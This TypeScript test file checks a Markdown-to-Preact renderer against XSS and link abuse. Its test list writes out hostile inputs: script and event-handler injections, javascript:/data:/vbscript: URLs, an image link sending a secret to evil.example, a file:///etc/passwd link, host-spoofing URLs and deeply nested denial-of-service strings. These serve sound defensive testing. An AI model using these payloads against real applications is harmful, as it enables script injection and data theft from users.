import assert from "node:assert/strict";
import { test } from "node:test";
import type { ComponentChildren, VNode } from "preact";
import { renderMarkdown, safeLink } from "./markdown.ts";

/** Every element that Markdown may become, and every property that it may have. */
const ELEMENTS = new Set(
  "a blockquote br code del div em h3 h4 h5 h6 hr li ol p pre span strong table tbody td th thead tr ul".split(" "),
);
const PROPERTIES = new Set(["class", "children", "href", "rel", "start", "target", "title"]);

function elements(children: ComponentChildren): VNode<Record<string, unknown>>[] {
  if (Array.isArray(children)) return children.flatMap(elements);
  if (children === null || typeof children !== "object" || !("type" in children)) return [];
  const node = children as VNode<Record<string, unknown>>;
  return [node, ...elements(node.props.children as ComponentChildren)];
}

function textOf(children: ComponentChildren): string {
  if (Array.isArray(children)) return children.map(textOf).join("");
  if (typeof children === "string" || typeof children === "number") return String(children);
  if (children === null || typeof children !== "object" || !("type" in children)) return "";
  return textOf((children as VNode).props.children);
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  '<a href="javascript:alert(1)">click</a>',
  "<iframe src=https://evil.example></iframe>",
  '<div style="position:fixed;inset:0">over all</div>',
  "<style>body{display:none}</style>",
  "<!-- <script>alert(1)</script> -->",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](java\tscript:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](data:text/html,<script>alert(1)</script>)",
  "[a](vbscript:msgbox(1))",
  "[a](/api/stop)",
  "[a](//evil.example)",
  "[a](https:evil.example)",
  "[a](file:///etc/passwd)",
  "![x](https://evil.example/?d=SECRET)",
  "![x](javascript:alert(1))",
  "![<img src=x onerror=alert(1)>](https://evil.example/p.png)",
  '[a](https://evil.example "\\" onmouseover=alert(1) \\"")',
  "<https://evil.example/<script>>",
  "[a][b]\n\n[b]: javascript:alert(1)",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "```html\n<script>alert(1)</script>\n```",
  "> > <script>alert(1)</script>",
  `${"> ".repeat(20_000)}deep`,
  `${"[".repeat(20_000)}a${"]".repeat(20_000)}`,
  "*".repeat(20_000),
];

for (const payload of HOSTILE) {
  test(`nothing dangerous comes of ${JSON.stringify(payload.slice(0, 60))}`, () => {
    for (const node of elements(renderMarkdown(payload))) {
      assert.ok(ELEMENTS.has(String(node.type)), `element ${String(node.type)}`);
      for (const name of Object.keys(node.props)) assert.ok(PROPERTIES.has(name), `property ${name}`);
      if (node.type === "a") {
        assert.match(String(node.props.href), /^(https?:\/\/|mailto:)/);
        assert.equal(node.props.rel, "noopener noreferrer");
        assert.equal(node.props.target, "_blank");
      }
    }
  });
}

test("an image loads nothing: it is a link that names its host", () => {
  const shown = renderMarkdown("![a chart](https://evil.example/p.png?d=SECRET)");
  assert.equal(textOf(shown), "[image: a chart] (evil.example)");
  assert.equal(elements(shown).filter((node) => node.type === "img").length, 0);
});

test("a link that names another host than its own shows the real one", () => {
  assert.equal(textOf(renderMarkdown("[github.com](https://github.com@evil.example/x)")), "github.com (evil.example)");
  assert.equal(textOf(renderMarkdown("[evil](https://xn--e1awd7f.example/)")), "evil (xn--e1awd7f.example)");
  assert.equal(textOf(renderMarkdown("<https://docs.example/a>")), "https://docs.example/a");
});

test("only absolute http, https and mailto addresses are links", () => {
  for (const href of ["https://a.example", "HTTP://a.example/x", "mailto:a@b.example"]) assert.ok(safeLink(href), href);
  for (const href of [
    "/api",
    "#x",
    "//a.example",
    "https:a.example",
    "javascript:1",
    "ftp://a.example",
    " https://",
    "https://",
  ]) {
    assert.equal(safeLink(href), null, href);
  }
});

test("ordinary Markdown reads as it should", () => {
  const shown = renderMarkdown(
    "# Title\n\nA **bold** `code` &amp; more.\n\n1. one\n2. two\n\n- [x] done\n\n| a | b |\n|:-|-:|\n| 1 | 2 |",
  );
  const types = elements(shown).map((node) => node.type);
  for (const type of ["h3", "strong", "code", "ol", "ul", "table", "td"]) assert.ok(types.includes(type), type);
  assert.match(textOf(shown), /A bold code & more\./);
  assert.match(textOf(shown), /☑ done/);
});

test("markup in the text is shown, not swallowed", () => {
  assert.equal(textOf(renderMarkdown("before <b>inside</b> after")), "before <b>inside</b> after");
});

test("a very long text is cut", () => {
  const shown = textOf(renderMarkdown("word ".repeat(100_000)));
  assert.ok(shown.length < 210_000 && shown.endsWith("…"));
});
